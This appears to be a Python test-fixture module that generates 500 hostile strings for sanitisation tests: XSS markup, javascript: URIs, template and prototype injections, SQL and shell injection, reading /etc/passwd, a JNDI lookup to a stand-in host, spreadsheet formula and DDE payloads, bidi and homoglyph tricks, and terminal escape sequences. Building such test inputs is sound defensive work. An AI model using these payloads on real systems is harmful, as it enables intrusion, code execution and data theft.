"""Texts that somebody hostile would write into a document: 500, each unlike the others. For hostile_test.py.

Whatever could run calls hit(), which the browser counts, or asks the host hit.invalid."""

RUN = "hit()"
MARKUP = [
    "<script>{run}</script>", "<script src=//hit.invalid/x.js></script>", "<img src=x onerror={run}>",
    "<img src=//hit.invalid/x.png>", "<svg onload={run}>", "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href=javascript:{run}><text y=20>x</text></a></svg>", "<svg><animate onbegin={run} attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'/>", "<svg><foreignObject><body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>", "<iframe src=javascript:parent.{run}>",
    "<iframe src=//hit.invalid/>",
    "<object data=javascript:{run}>", "<object data=//hit.invalid/x.swf>", "<embed src=//hit.invalid/x.swf>",
    "<body onload={run}>", "<details open ontoggle={run}>x</details>", "<video src=x onerror={run}>",
    "<video><source onerror={run}></video>", "<audio src=x onerror={run}>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>", "<marquee onstart={run}>x</marquee>",
    "<a href=javascript:{run} id=x>x</a>", "<a href='java\tscript:{run}'>x</a>",
    "<a href='&#106;avascript:{run}'>x</a>",
    "<form action=//hit.invalid/><input type=submit></form>",
    "<form><button formaction=javascript:{run}>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//hit.invalid/'>", "<base href=//hit.invalid/>",
    "<link rel=stylesheet href=//hit.invalid/x.css>", "<link rel=prefetch href=//hit.invalid/>",
    "<style>@import '//hit.invalid/x.css'</style>", "<style>*{{background:url(//hit.invalid/)}}</style>",
    "<div style=background:url(//hit.invalid/)>x</div>", "<table background=//hit.invalid/>",
    "<math><mtext><img src=x onerror={run}>",
    "<math href=javascript:{run}>x</math>", "<template><img src=x onerror={run}></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<isindex action=javascript:{run}>", "<keygen autofocus onfocus={run}>", "<dialog open onclose={run}>",
    "<x onclick={run} tabindex=1 id=x>x",
    "<x contenteditable onblur={run}>x", "<portal src=//hit.invalid/>", "<img srcset='//hit.invalid/x.png 1x'>",
    "<picture><source srcset=//hit.invalid/><img>",
]
BEFORE = ["", "\">", "'>", "</td></tr></table>", "</title>", "</textarea>", "--><!-->", "]]>"]
ATTRIBUTES = ['" onmouseover="{run}', "' onmouseover='{run}", '" autofocus onfocus="{run}" x="',
              "x onpointerenter={run}",
              '" style="animation-name:x" onanimationstart="{run}', "` onmouseover=`{run}", '\\" onload=\\"{run}',
              "&quot; onclick=&quot;{run}"]
SCRIPTS = ["javascript:{run}", "JaVaScRiPt:{run}", "java\nscript:{run}", " javascript:{run}", "javascript://%0a{run}",
           "data:text/html,<script>{run}</script>",
           "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "vbscript:{run}", "//hit.invalid/",
           "https://hit.invalid/?", "\\\\hit.invalid\\share",
           "file:///etc/passwd", "';{run};'", '";{run};"', "\\';{run};//", "`;{run};`", "${{{run}}}", "`${{{run}}}`",
           "{{{{{run}}}}}", "{{{{constructor.constructor('{run}')()}}}}",
           "#{{{run}}}", "<%= {run} %>", "<?={run}?>", "[[${{{run}}}]]", "{{% {run} %}}", "*{{{run}}}", "@({run})",
           "__proto__", "constructor", "toString",
           '{{"__html":"<img src=x onerror={run}>"}}', "[object Object]", "undefined", "null", "NaN",
           "</script><script>{run}</script>", "<!--<script>{run}//-->",
           "\u2028{run}\u2029", "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "&lt;script&gt;{run}&lt;/script&gt;",
           "%3Cscript%3E{run}%3C/script%3E",
           "+ADw-script+AD4-{run}+ADw-/script+AD4-", "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
           "‹script›{run}‹/script›", "%s%n%x", "%00", "../../../../etc/passwd",
           "' OR '1'='1", "1; DROP TABLE entries --", "$(touch /tmp/hit)", "`touch /tmp/hit`", "; reboot",
           "| cat /etc/passwd", "*)(uid=*", "${{jndi:ldap://hit.invalid/x}}"]
FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"//hit.invalid/\",\"x\")",
            "=IMPORTXML(\"//hit.invalid/\",\"//a\")",
            "=WEBSERVICE(\"//hit.invalid/\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
            "\"=1+1", "'=1+1", "a;=1+1", "a\t=1+1",
            "a\n=1+1", "a\r\n+1", "a;\"=1+1\"", "a,=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "==1",
            "=-1", "-+1", "@@x", "=\"a\"&\"b\"",
            "=rundll32|'URL.dll,OpenURL calc'!A", "%0A=1", "=1;=2", ";;;=1", "x\";=1;\"", "-2+3+cmd|' /C calc'!D2",
            "=A1&CHAR(10)", "+\"x\"", "@x;-1", "\ufeff=1"]
DIRECTIONS = ["\u202efdp.exe", "văn bản\u202excod.exe", "\u202a\u202b\u202c\u202d", "\u2066\u2067\u2068\u2069",
              "a\u200eb\u200fc", "\u061cx", "\u202e7816\u202c",
              "a\u202e<!--\u2066 x\u2069 \u2066-->", "שלום =1", "مرحبا", "\u2067אבג\u2069 12", "x\u2028y\u2029z"]
UNSEEN = ["H43\u200b.01", "H43\u200c.01", "H43\u200d.01", "\u2060x", "\ufeffx", "ad\u00admin", "x\u180ey", "a\u034fb",
          "\u3164", "\u115f", "e" + "\u0301" * 60,
          "\U000e0041\U000e0042", "x\ufe0f", "\ufffc", "\u2800", " " * 60 + "x", "\u00a0\u00a0"]
ALIKE = ["Н43.01", "H４３.01", "Η43.01", "аdmin", "UBΝD", "V/ν", "7８16", "ⅤPCP", "𝐇43", "Sở Nội vụ", "Đ vs Ð vs Ɖ",
         "rn vs m", "0O1lI", "ﬁle", "№ 7816"]
CONTROLS = ["\x1b[2J", "\x1b]0;x\x07", "\x1b]8;;http://hit.invalid/\x07x\x1b]8;;\x07", "a\x00b", "\x07",
            "\x08\x08\x08x", "\x7f", "\x0c", "\x0b", "\x1b[31mERROR\x1b[0m",
            "\x9b2J", "x\u0085y", "\u009b31m", "\x1bP+q544e\x1b\\", "\x01\x02\x03", "\x1b[6n"]
LINES = ["a\nlevel=error HUB_STOPPED", "a\r\n2026-01-01T00:00:00.000Z error HUB_FAILED", "a\r\nSet-Cookie: x=y",
         "a%0d%0aX: y", "a\n\n<script>{run}</script>",
         "a\rb", "{{\"event\":\"x\"}}", "\",\"level\":\"error", "a\\nb", "a\tb\tc"]
LONG = ["x" * 4096, "ạ" * 1365, "<b>" * 1365, "=" * 4096, "&amp;" * 819, "😀" * 1024, "a " * 2048, "\u0301" * 2000]


def payloads():
    found = [form.format(run=RUN)
             for form in [*ATTRIBUTES, *SCRIPTS, *LINES]] + FORMULAS + DIRECTIONS + UNSEEN + ALIKE + CONTROLS + LONG
    # Each kind of markup out of as many places as it takes.
    for before in BEFORE:
        for form in MARKUP:
            text = before + form.format(run=RUN)
            if len(found) < 500 and text not in found:
                found.append(text)
    assert len(set(found)) == 500, len(found)
    return found


def is_control(text):
    """What the hub refuses in any field of an envelope."""
    return any(ord(c) < 0x20 and c not in "\n\t\r" or ord(c) == 0x7F for c in text)
